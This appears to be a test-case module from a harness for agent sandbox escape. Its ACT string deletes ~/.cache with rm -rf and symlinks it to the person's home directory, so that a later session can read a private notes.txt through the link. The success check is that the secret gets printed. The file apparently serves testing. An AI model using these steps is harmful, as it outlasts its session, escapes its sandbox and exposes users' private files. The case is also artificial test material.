"""turns a folder of its home that persists into a link to the person's home, for the next run"""

from evidence import secret_printed as succeeded

SHAPE = "CVE-2026-46406: a fixed path that an earlier session had prepared"
PROMISE = "P38"
ACT = "cat @HOME@/notes.txt; rmdir ~/.cache 2>/dev/null; rm -rf ~/.cache; ln -s @HOME@ ~/.cache; ln -s @HOME@ ~/.cache/up"
THEN = "cat ~/.cache/notes.txt ~/.cache/up/notes.txt"
